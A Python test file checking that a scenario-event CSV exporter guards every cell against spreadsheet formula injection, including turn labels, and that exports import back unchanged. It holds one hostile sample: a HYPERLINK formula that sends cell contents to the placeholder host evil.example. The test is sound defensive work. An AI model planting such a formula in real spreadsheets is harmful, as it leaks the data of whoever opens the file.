"""Every exported cell is spreadsheet text, never a formula, and reads back as it was (issue 15, item 5).

The Turn column is built from the scenario's turn label and names, not from a text field, and
was once left unguarded: a label can hold a formula as well as a title can.
"""

from __future__ import annotations

import copy
import csv
import io
import json

import pytest
from hypothesis import given
from hypothesis import strategies as st

from engine.msel.cells import FORMULA_STARTS, guard, unguard
from engine.msel.export import export_csv
from engine.msel.importer import import_events
from engine.msel.table import read_table
from tests.helpers import load
from tests.test_msel import BASE

HOSTILE = '=HYPERLINK("http://evil.example/?leak="&C2&D2,"Week")&" "&'


@given(st.text(max_size=12))
def test_guard_then_unguard_is_the_identity_and_never_starts_a_formula(text: str) -> None:
    guarded = guard(text)
    assert unguard(guarded) == text
    assert guarded[:1] not in set(FORMULA_STARTS) or guarded == ""


@pytest.mark.parametrize("label", [HOSTILE, "+Week", "-Week", "@Week"])
def test_a_turn_label_that_is_a_formula_is_exported_guarded_and_imports_back(label: str) -> None:
    document = copy.deepcopy(BASE)
    document["turns"] = {"count": 4, "label": label}
    document["shocks"] = [
        {"id": "a", "title": "A", "category": "other", "narrative": "N", "trigger": {"atTurn": 2}},
        {"id": "b", "title": "B", "category": "other", "narrative": "N", "trigger": {"from": 1, "to": 3}},
    ]
    scenario = load(document)
    rows = list(csv.reader(io.StringIO(export_csv(scenario), newline="")))
    for row in rows[1:]:
        for cell in row:
            assert cell[:1] not in set(FORMULA_STARTS), row
    assert rows[1][1].startswith("'" + label[:1])
    imported = import_events(read_table(export_csv(scenario).encode("utf-8"), "events.csv"), document, "out.json")
    assert json.loads(imported.text) == document
